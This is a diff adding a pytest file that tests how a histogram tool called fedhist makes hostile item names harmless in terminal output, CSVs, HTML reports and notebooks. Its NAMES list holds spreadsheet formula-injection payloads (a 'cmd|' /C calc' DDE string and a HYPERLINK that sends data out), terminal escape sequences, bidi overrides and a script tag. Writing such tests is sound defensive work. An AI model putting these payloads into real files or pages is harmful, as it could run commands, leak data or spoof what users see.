@@ -1,0 +1,173 @@
+"""Names that somebody else chose: what a terminal, a spreadsheet, a page and a program get to see of them."""
+
+from __future__ import annotations
+
+import csv
+import json
+import unicodedata
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from fedhist.protocol.visible_text import is_formula, is_hidden, visible
+
+Fedhist = Callable[..., Any]
+NAMES = [
+    '=HYPERLINK("http://example.com/?x="&A1,"click")',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+cmd",
+    "\x1b[2J\x1b[31mred",
+    "\x1b]0;title\x07",
+    "up\x1b[1Aerror: faked",
+    "two\nlines",
+    "turned \u202eround",
+    "c1 \x9b31m",
+    "[bold]markup[/nowhere]",
+    "<script>alert(1)</script>",
+]
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    """Thirty users who have all of the names, in a file whose name is one of them."""
+    path = tmp_path / "\x1b[31mdata [bold]\u202e$x.csv"
+    with path.open("w", newline="", encoding="utf-8") as file:
+        writer = csv.writer(file)
+        writer.writerow(["user", "item", "count"])
+        for user in range(30):
+            writer.writerows([f"u{user}", name, 40 - place] for place, name in enumerate(NAMES))
+    return path
+
+
+def is_clean(text: str) -> bool:
+    """Whether nothing but line ends is invisible."""
+    return not any(
+        unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")
+        for character in text
+        if character != "\n"
+    )
+
+
+def items_of(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as file:
+        return [row["item"] for row in csv.DictReader(file)]
+
+
+RUN = ("--seed", 1, "--epsilon", 1e4, "--max-threshold", 2000)
+OPEN = (*RUN, "--domain", "open")
+
+
+class TestTerminal:
+    def test_names_that_are_formulas_or_escapes_are_visible_text_in_every_command(
+        self, fedhist: Fedhist, hostile: Path
+    ) -> None:
+        commands: list[tuple[object, ...]] = [
+            ("data", "describe", hostile, "--head", 50, "--figure", "\x1b[1mf.svg"),
+            ("data", "import", hostile, "--max-malformed", 1, "--out", "\x1b[1mt.npz"),
+            ("run", "--data", hostile, *RUN, "--trace", "--verbose", "--out", "\x1b[1mrun\nfaked"),
+            ("trace", "show", "\x1b[1mrun\nfaked"),
+            ("report", "\x1b[1mrun\nfaked", "--force"),
+            ("figure", "\x1b[1mrun\nfaked", "released", "--out", "\x1b[1mc.svg"),
+            ("run", "--data", hostile, *OPEN, "--ledger", "\x1b[1ml.db", "--out", "o"),
+            ("ledger", "show", "\x1b[1ml.db"),
+            ("ledger", "limit", "\x1b[1ml.db", "--epsilon", 1e6, "--delta", 0.1),
+            ("plan", "--data", hostile, "--epsilon", "1", "--csv", "\x1b[1mp.csv"),
+            ("compare", "--data", hostile, "--selectors", "oracle", "--trials", 2, "--out", "\x1b[1mcmp"),
+        ]  # fmt: skip
+        for command in commands:
+            outcome = fedhist(*command)
+            assert outcome.code == 0, (command, outcome.err)
+            assert is_clean(outcome.out), (command, outcome.out)
+            assert is_clean(outcome.err), (command, outcome.err)
+            assert "\nfaked" not in outcome.out
+
+    @pytest.mark.parametrize(
+        "command",
+        [
+            ("run", "--data", "\x1b[31m\nno such.csv"),
+            ("run", "--data", "\x1b[31m.xlsx"),
+            ("run", "--out", "\x1b[31m/a\n/b"),
+            ("run", "--\x1b[31m"),
+            ("run", "--seed", "\x1b[31m\n1"),
+            ("run", "--selector", "\x1b[31m\n"),
+            ("trace", "show", "\x1b[31m\n"),
+            ("figure", "\x1b[31m\n", "\x1b[32m", "--out", "x.svg"),
+            ("report", "\x1b[31m\n"),
+            ("ledger", "show", "\x1b[31m\n"),
+            ("plan", "--epsilon", "\x1b[31m\n"),
+            ("compare", "--data", "\x1b[31m\n"),
+            ("\x1b[31m\n",),
+        ],
+    )
+    def test_an_error_quotes_what_was_typed_as_visible_text(
+        self, fedhist: Fedhist, command: tuple[str, ...]
+    ) -> None:
+        outcome = fedhist(*command)
+        assert outcome.code == 2
+        assert is_clean(outcome.err)
+        assert outcome.err.count("\n") == 1
+
+    def test_a_trace_that_somebody_else_wrote(self, fedhist: Fedhist) -> None:
+        assert fedhist("run", "--users", 30, "--items", 3, "--trace", "--out", "r").code == 0
+        path = Path("r/trace.jsonl")
+        text = path.read_text().replace('"process 1"', json.dumps("\x1b[31mshard\n1"))
+        path.write_text(text.replace('"engine": "in-process"', '"engine": "\\u001b[31m"'))
+        outcome = fedhist("trace", "show", "r")
+        assert "⟨U+001B⟩[31mshard⟨U+000A⟩1" in outcome.out
+        assert is_clean(outcome.out)
+
+
+class TestFiles:
+    def test_histogram_csv_has_names_as_they_were_written_and_the_notes_say_so(
+        self, fedhist: Fedhist, hostile: Path
+    ) -> None:
+        """Programs look names up: one that is changed is another item. A person is told what a spreadsheet does."""
+        for flags in (RUN, OPEN):
+            folder = Path("open" if flags is OPEN else "closed")
+            outcome = fedhist("run", "--data", hostile, *flags, "--out", folder)
+            assert outcome.code == 0, outcome.err
+            assert set(items_of(folder / "histogram.csv")) == set(NAMES)
+            notes = json.loads((folder / "result.json").read_text())["notes"]
+            assert any(
+                "4 of the names in histogram.csv would be formulas in a spreadsheet" in n for n in notes
+            )
+            assert any("6 of the names in histogram.csv have invisible characters" in n for n in notes)
+            assert "note: 4 of the names in histogram.csv" in outcome.out
+
+    def test_what_is_written_can_be_read_as_a_report_again(self, fedhist: Fedhist, hostile: Path) -> None:
+        assert fedhist("run", "--data", hostile, *RUN, "--out", "r").code == 0
+        assert fedhist("report", "r", "--force").code == 0
+        page = Path("r/report.html").read_text(encoding="utf-8")
+        assert is_clean(page)
+        assert "<script>alert" not in page
+
+    def test_ordinary_names_and_numbers_get_no_note(self, fedhist: Fedhist, tmp_path: Path) -> None:
+        rows = "".join(
+            f"u{user},{item}\n" for user in range(9) for item in ("a b", "-5", "+3.5", "naïve", "🏳️‍🌈")
+        )
+        (tmp_path / "d.csv").write_text("user,item\n" + rows, encoding="utf-8")
+        assert "histogram.csv" not in " ".join(
+            fedhist("run", "--data", "d.csv", "--json").document()["notes"]
+        )
+
+    def test_a_page_of_a_notebook_escapes_names(self, hostile: Path) -> None:
+        import fedhist as library
+
+        population = library.read_population(hostile)
+        plan = library.Plan(users=population.users, domain="open", epsilon=1e4, max_threshold=2000)
+        shown = library.simulate(population, plan, seed=1)._repr_html_()
+        assert is_clean(shown)
+        assert "<script>" not in shown
+
+
+def test_what_is_a_formula_and_what_is_hidden() -> None:
+    assert [name for name in NAMES if is_formula(name)] == NAMES[:4]
+    assert [name for name in NAMES if is_hidden(name)] == NAMES[4:10]
+    for harmless in ("-5", "+3.5", "a=b", "", 7, -7, "e\u0301", "\u00a0", "👩‍👩‍👧"):
+        assert not is_formula(harmless)
+        assert not is_hidden(harmless)
+    assert all(is_formula(text) for text in ("=1", "\t=1", "\r=1", "\uff1d1", "-a", "@x", "+49 170"))
+    assert visible("a\nb") == "a⟨U+000A⟩b"
